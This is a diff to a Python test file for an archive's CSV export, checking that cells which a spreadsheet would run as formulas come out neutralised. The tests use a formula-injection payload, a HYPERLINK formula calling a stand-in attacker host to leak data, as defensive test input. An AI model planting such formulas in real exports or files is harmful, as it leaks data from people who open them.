@@ -6,9 +6,9 @@ import xml.etree.ElementTree as ET
 
 import pytest
 
+from archive.models import Document
 from archive.research.leaving import plain_snippet
 from archive.services.documents import document_import
-from archive.spreadsheet import csv_cell
 
 ATOM = "{http://www.w3.org/2005/Atom}"
 
@@ -35,9 +35,10 @@ def test_export_keeps_the_filters_and_stamps_them(client, indexed):
     assert [row[2] for row in rows[3:]] == ["许昌市"]  # found through the alias 河湖长制
 
 
-def test_export_neutralises_cells_a_spreadsheet_would_run():
-    assert csv_cell('=HYPERLINK("http://evil.example/?leak","x")') == '\'=HYPERLINK("http://evil.example/?leak","x")'
-    assert [csv_cell(v) for v in ("+1", "-5%", "@a", "\tx", "株洲")] == ["'+1", "'-5%", "'@a", "'\tx", "株洲"]
+def test_export_cells_cannot_run_as_formulas(client, indexed):
+    Document.objects.filter(city__slug="xuchang").update(title='=HYPERLINK("http://evil.example/?leak","x")')
+    rows = export_rows(client, q="河长制", city="xuchang")
+    assert rows[3][1] == '\'=HYPERLINK("http://evil.example/?leak","x")'
     assert plain_snippet("一是<mark>河长制</mark>&amp;湖长") == "一是【河长制】&湖长"
 
 
